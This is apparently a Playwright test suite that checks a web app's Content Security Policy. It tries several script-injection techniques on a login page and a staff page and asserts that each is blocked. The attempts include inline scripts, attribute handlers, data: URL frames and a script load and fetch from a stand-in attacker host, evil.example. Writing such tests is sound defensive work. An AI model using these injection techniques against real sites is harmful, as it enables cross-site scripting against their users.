import { expect, test } from '../fixtures.ts';

declare global {
  interface Window {
    ran?: boolean;
    violations?: number;
  }
}

/** What somebody would try who could write into a page. Each sets `ran` when the browser lets it. */
const attempts: Record<string, () => void> = {
  'an inline script': () => {
    const script = document.createElement('script');
    script.textContent = 'window.ran = true';
    document.body.append(script);
  },
  'a handler in an attribute': () => {
    document.body.insertAdjacentHTML('beforeend', '<i id="handler" onclick="window.ran = true"></i>');
    document.getElementById('handler')?.click();
  },
  'a script of another site': () => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/x.js';
    document.body.append(script);
  },
  'a script in its own address': () => {
    const script = document.createElement('script');
    script.src = 'data:text/javascript,window.ran=true';
    document.body.append(script);
  },
  'a text that is evaluated': () => {
    setTimeout('window.ran = true');
  },
  'a frame': () => {
    const frame = document.createElement('iframe');
    frame.src = 'data:text/html,<script>parent.ran = true</script>';
    document.body.append(frame);
  },
  'a worker made of a text': () => {
    try {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
      worker.onmessage = () => {
        window.ran = true;
      };
    } catch {
      // As it should.
    }
  },
  'an object': () => {
    const thing = document.createElement('object');
    thing.data = 'data:text/html,<script>parent.ran = true</script>';
    document.body.append(thing);
  },
  'a call to another site': () => {
    fetch('https://evil.example/').then(
      () => {
        window.ran = true;
      },
      () => undefined,
    );
  },
};

for (const [what, attempt] of Object.entries(attempts)) {
  test(`${what} does not run in a page, before and after the sign-in`, async ({ page, staffPage, allowConsole }) => {
    allowConsole(/Content Security Policy|evil\.example/);
    for (const [tab, path] of [
      [page, '/login'],
      [staffPage, '/operations/leads'],
    ] as const) {
      await tab.goto(path);
      await tab.evaluate(() => {
        window.violations = 0;
        document.addEventListener('securitypolicyviolation', () => {
          window.violations = (window.violations ?? 0) + 1;
        });
      });
      await tab.evaluate(attempt);
      await expect.poll(() => tab.evaluate(() => window.violations)).toBeGreaterThan(0);
      expect(await tab.evaluate(() => window.ran)).toBeUndefined();
    }
  });
}
